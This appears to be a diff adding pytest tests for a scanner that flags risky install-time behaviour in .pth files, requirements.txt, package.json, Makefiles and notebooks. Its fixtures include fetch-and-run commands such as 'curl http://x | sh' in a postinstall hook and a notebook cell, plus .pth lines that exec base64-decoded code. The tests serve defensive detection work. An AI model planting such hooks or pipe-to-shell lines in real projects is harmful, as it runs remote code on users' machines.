@@ -1,0 +1,45 @@
+from __future__ import annotations
+
+import json
+
+
+def test_pth_lines_that_act_at_every_start(rules_of):
+    assert "RGS-INS-001" in rules_of({"x.pth": "import os; os.system('x')\n"})
+    assert "RGS-INS-001" in rules_of({"x.pth": "/a/path\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"})
+
+
+def test_pth_lines_that_import_a_module_are_unknown(rules_of):
+    assert "RGS-INS-002" in rules_of({"x.pth": "import my_hook\n"})
+
+
+def test_pth_files_of_paths_are_fine(rules_of):
+    assert not {r for r in rules_of({"x.pth": "/some/path\nimportant/path\n"}) if r.startswith("RGS-INS")}
+
+
+def test_requirements_from_elsewhere(rules_of):
+    for line in (
+        "git+https://host/x.git",
+        "pkg @ https://host/pkg.whl",
+        "--extra-index-url https://host/simple",
+        "-e git+ssh://git@host/x",
+        "https://host/x.whl",
+    ):
+        assert "RGS-INS-003" in rules_of({"requirements.txt": f"numpy\n{line}\n"}), line
+
+
+def test_ordinary_requirements(rules_of):
+    text = "numpy>=1.2  # see https://numpy.org\n--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.1\n"
+    assert "RGS-INS-003" not in rules_of({"requirements.txt": text})
+
+
+def test_install_hooks_of_npm(rules_of):
+    hook = {"name": "x", "scripts": {"postinstall": "curl http://x | sh"}}
+    build = {"name": "x", "scripts": {"postinstall": "node build.js", "test": "curl x"}}
+    assert "RGS-INS-004" in rules_of({"package.json": json.dumps(hook)})
+    assert "RGS-INS-004" not in rules_of({"package.json": json.dumps(build)})
+
+
+def test_recipes_and_notebooks_are_notes(rules_of):
+    cell = {"cells": [{"cell_type": "code", "source": ["!curl http://x | bash\n"]}]}
+    assert "RGS-INS-005" in rules_of({"Makefile": "all:\n\tcurl x\n"})
+    assert "RGS-INS-006" in rules_of({"a.ipynb": json.dumps(cell)})
